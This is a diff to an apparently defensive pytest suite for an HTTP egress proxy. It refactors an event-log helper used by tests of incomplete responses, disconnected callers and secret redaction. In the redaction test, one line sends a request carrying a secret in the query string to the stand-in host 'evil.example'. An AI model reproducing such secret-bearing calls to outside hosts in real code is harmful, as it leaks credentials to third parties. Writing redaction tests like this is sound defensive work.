@@ -177,14 +177,10 @@ async def test_an_answer_that_breaks_ends_broken(front: Front) -> None:
     front.upstream.says(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhalf")
     with pytest.raises(Exception, match=r"(?i)payload|disconnected|closed"):
         await front.call()
-    await eventually(lambda: "egress" in _events(front))
+    await eventually(lambda: "egress" in front.events)
     (row,) = await front.rows()
     assert (row["status"], row["reason"], row["bytes_out"]) == (200, "http_response_incomplete", 4)
     assert row["grant_charged"]
-
-
-def _events(front: Front) -> list[str]:
-    return [str(call.kwargs.get("event", call.args[:1])) for call in front.log.calls]
 
 
 async def test_a_caller_that_leaves_ends_the_work(front: Front) -> None:
@@ -201,7 +197,7 @@ async def test_a_caller_that_leaves_ends_the_work(front: Front) -> None:
     await reached.wait()
     asking.cancel()
     assert await front.upstream.ended.get() == 1
-    await eventually(lambda: "egress" in _events(front))
+    await eventually(lambda: "egress" in front.events)
     (row,) = await front.rows()
     assert (row["status"], row["reason"], row["grant_charged"]) == (499, "caller_left", True)
 
@@ -259,7 +255,7 @@ async def test_no_secret_is_in_the_log(front: Front) -> None:
     secret = "s3cr3t" + "value"
     await front.call(f"https://{HOST}/?key={secret}", body=secret.encode(), X_Upstream_Authorization=f"Bearer {secret}")
     await front.call(f"https://evil.example/?key={secret}")
-    await eventually(lambda: _events(front).count("egress") == 2)
+    await eventually(lambda: front.events.count("egress") == 2)
     assert secret not in str(front.log.calls)
     assert not await front.rows(f"path LIKE '%{secret}%'")
 
